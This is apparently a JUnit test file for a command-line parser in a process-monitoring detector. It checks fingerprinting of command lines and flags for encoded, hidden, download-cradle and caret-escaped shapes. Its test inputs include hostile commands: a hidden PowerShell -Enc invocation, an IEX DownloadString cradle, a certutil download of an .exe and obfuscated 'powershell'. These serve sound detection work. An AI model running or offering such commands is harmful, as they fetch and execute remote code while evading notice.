package dev.lapwing.core.detector.process;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class CommandLineTest {

  private static final String BLOB = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAA";

  private static List<String> words(String line) {
    CommandLine command = new CommandLine(line);
    List<String> words = new ArrayList<>();
    for (int i = 0; i < command.size(); i++) {
      words.add(command.text(i));
    }
    return words;
  }

  private static List<Integer> prints(String line) {
    CommandLine command = new CommandLine(line);
    List<Integer> prints = new ArrayList<>();
    for (int i = 0; i < command.size(); i++) {
      prints.add(command.print(i));
    }
    return prints;
  }

  @Test
  void theProgramItselfIsNoToken() {
    assertThat(words("\"C:\\Program Files\\a b\\x.exe\" -run now")).containsExactly("-run", "now");
    assertThat(words("/usr/bin/x -run now")).containsExactly("-run", "now");
    assertThat(words("\"C:\\never closed")).isEmpty();
    assertThat(words("")).isEmpty();
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "x C:\\Users\\anna\\a.ps1 | x D:\\Temp\\A.PS1",
        "x C:\\Users\\anna\\offer.docx | x C:\\letter.DOCX",
        "x --pid=4711 | x --pid=99",
        "x 10.1.2.3 | x 192.168.0.77",
        "x {8d7f1c2e-0000-4a1b-9c3d-0123456789ab} | x {00000000-1111-2222-3333-444444444444}",
        "x 0x1f | x 0xdeadbeef0",
        "x a1b2c3d4e5 | x 00ff00ff00",
        "x https://a.example/x/y.msi | x https://b.example:8443/z.msi",
        "x http://10.0.0.1/a.ps1 | x http://198.51.100.7:8080/b/c.ps1",
        "x -E^n^c no`w | x -enc now",
        "x backup-20261125 | x backup-20251201",
      })
  void whatChangesFromRunToRunIsLeftOut(String one, String other) {
    assertThat(prints(one)).isNotEmpty().isEqualTo(prints(other));
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "x a.ps1 | x b.ps1",
        "x http://a.example/x | x http://198.51.100.7/x",
        "x /c | x c",
        "x a b | x b a",
        "x offer.docx | x offer.xlsx",
        "x user32.dll | x user33.dll",
      })
  void whatMattersIsNot(String one, String other) {
    assertThat(prints(one)).isNotEqualTo(prints(other));
  }

  @Test
  void anEncodedCommandIsSeen() {
    CommandLine line = new CommandLine("powershell.exe -NoP -W Hidden -Enc " + BLOB);
    assertThat(line.has(Shape.ENCODED)).isTrue();
    assertThat(line.has(Shape.HIDDEN)).isTrue();
    assertThat(line.has(Shape.CRADLE)).isFalse();
    assertThat(line.text(line.size() - 1)).hasSize(41).endsWith("…");
  }

  @Test
  void aDownloadIsSeen() {
    String line = "powershell IEX (New-Object Net.WebClient).DownloadString('http://1.2.3.4/a')";
    assertThat(new CommandLine(line).has(Shape.CRADLE)).isTrue();
    assertThat(new CommandLine("certutil -urlcache -f http://x/a.exe").has(Shape.CRADLE)).isTrue();
    assertThat(new CommandLine("notepad downloads.txt").has(Shape.CRADLE)).isFalse();
  }

  @Test
  void escapesThatMeanNothingAreSeen() {
    assertThat(new CommandLine("cmd /c p^o^w^e^r^s^h^e^l^l -e").has(Shape.ESCAPED)).isTrue();
    assertThat(new CommandLine("cmd /c echo a ^& b ^& c and so on").has(Shape.ESCAPED)).isFalse();
  }

  @Test
  void aPathIsNoBase64() {
    String path = "x /usr/lib/python3/dist-packages/update/manager/main";
    assertThat(prints(path)).containsExactly(Prints.of("main"));
  }

  @Test
  void onlyTheFirstWordsOfAnEndlessLineAreRead() {
    assertThat(new CommandLine("x" + " word".repeat(10_000)).size()).isEqualTo(48);
  }
}
